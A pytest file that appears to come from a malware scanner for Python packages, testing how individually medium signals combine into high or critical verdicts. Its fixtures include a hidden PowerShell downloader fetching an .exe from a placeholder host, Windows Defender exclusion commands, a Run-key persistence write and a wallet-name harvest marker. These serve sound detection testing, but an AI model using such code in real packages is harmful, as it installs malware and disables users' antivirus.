"""Signals that add up: every row of the combination table completes the verdict, each behaviour
alone does not, and ordinary combinations (a build step that downloads, a credential read and a
fixed network call) stay below high."""

from __future__ import annotations

import pytest

from outwork.analyzers.packages import combinations
from outwork.analyzers.packages.package import score_signals
from outwork.analyzers.packages.rules import (
    CredentialHarvesting,
    DownloadAndExecute,
    InstallTimeNetwork,
    InstallTimeProcess,
    PersistenceWrite,
    SecretExfiltration,
    SuspiciousCommandExecution,
)
from outwork.analyzers.packages.signals import Context, Signal
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import sdist
from tests.analyzers.packages.test_evasions import scan

M = Severity.MEDIUM

#: one medium signal per behaviour, as the checks raise them in code only run when called
SHOWN: dict[str, Signal] = {
    "download": Signal(DownloadAndExecute, M, "downloads", "p/a.py", 3, "urlretrieve(u, p)"),
    "hidden": Signal(
        InstallTimeProcess,
        M,
        "starts a program",
        "p/b.py",
        4,
        "subprocess.Popen([exe], creationflags=subprocess.CREATE_NO_WINDOW)",
    ),
    "defence": Signal(
        SuspiciousCommandExecution,
        M,
        "runs a command",
        "p/c.py",
        5,
        "os.system('powershell Add-MpPreference -ExclusionPath C:\\\\x')",
    ),
    "persistence": Signal(PersistenceWrite, M, "writes a Run key", "p/d.py", 6, "winreg.SetValue"),
    "harvest": Signal(CredentialHarvesting, M, "names a wallet", "p/e.py", 7, "Exodus"),
    "exfiltration": Signal(SecretExfiltration, M, "sends secrets", "p/f.py", 8, "post(u, d)"),
}


def test_each_behaviour_is_recognised_alone() -> None:
    for name, signal in SHOWN.items():
        assert set(combinations.behaviours([signal])) == {name}


@pytest.mark.parametrize(
    "combo", combinations.COMBINATIONS, ids=[c.summary for c in combinations.COMBINATIONS]
)
def test_every_row_sets_the_verdict(combo: combinations.Combination) -> None:
    signals = [SHOWN[name] for name in sorted(combo.behaviours)]
    for one in signals:
        assert score_signals([one])[1] is M  # alone: medium
    _, severity, reasons = score_signals(signals)
    assert severity is not None and severity >= combo.severity
    assert reasons[0].startswith("signals that add up") and combo.summary in reasons[0]


def test_low_signals_do_not_add_up() -> None:
    low = [
        Signal(s.rule, Severity.LOW, s.message, s.path, s.line, s.evidence) for s in SHOWN.values()
    ]
    assert score_signals(low)[1] is Severity.LOW


def test_ordinary_combinations_stay_medium() -> None:
    benign = [
        Signal(InstallTimeProcess, M, "starts a program", "s.py", 1, "subprocess.call(['make'])"),
        Signal(DownloadAndExecute, M, "downloads", "s.py", 2, "urlretrieve(u, 'data.json')"),
        Signal(CredentialHarvesting, M, "reads ~/.aws", "c.py", 3, "open(creds)"),
        Signal(InstallTimeNetwork, M, "reaches the network", "n.py", 4, "requests.get(u)"),
    ]
    assert score_signals(benign)[1] is M


HIDDEN_DOWNLOADER = (
    "import subprocess\n\n\n"
    "def fetch():\n"
    "    subprocess.run('powershell Invoke-WebRequest https://files.example.invalid/u.exe"
    " -OutFile u.exe', shell=True)\n\n\n"
    "def launch(path):\n"
    "    subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-File', path])\n\n\n"
    "def defend():\n"
    "    subprocess.run('powershell Add-MpPreference -ExclusionPath $env:TEMP', shell=True)\n"
)
DOWNLOADER_ONLY = (
    "import subprocess\n\n\n"
    "def fetch():\n"
    "    subprocess.run('powershell Invoke-WebRequest https://files.example.invalid/u.exe"
    " -OutFile u.exe', shell=True)\n"
)


def test_a_package_of_medium_behaviours_is_critical() -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "demo/tool.py": HIDDEN_DOWNLOADER,
    }
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    verdict = [f for f in found if f.code == "PKG020"]
    assert verdict and verdict[0].severity is Severity.CRITICAL
    assert verdict[0].evidence.startswith("signals that add up (critical)")
    files["demo/tool.py"] = DOWNLOADER_ONLY
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    verdict = [f for f in found if f.code == "PKG020"]
    assert verdict and verdict[0].severity is Severity.HIGH  # one behaviour: its own weight
    assert "signals that add up" not in verdict[0].evidence


def test_context_does_not_matter_to_the_table() -> None:
    signals = [
        Signal(s.rule, s.severity, s.message, s.path, s.line, s.evidence, Context.IMPORT)
        for s in (SHOWN["download"], SHOWN["persistence"])
    ]
    assert score_signals(signals)[1] is Severity.CRITICAL


def test_tests_and_examples_add_up_to_nothing() -> None:
    """numpy's sdist: a downloader in vendored meson's manual tests and a shell-rc write in its
    developer tool were two behaviours of one package, never of its installed code."""
    download = SHOWN["download"]
    in_tests = Signal(
        download.rule,
        M,
        download.message + " (in tests or examples)",
        "t/x.py",
        1,
        download.evidence,
    )
    assert score_signals([in_tests, SHOWN["persistence"]])[1] is M
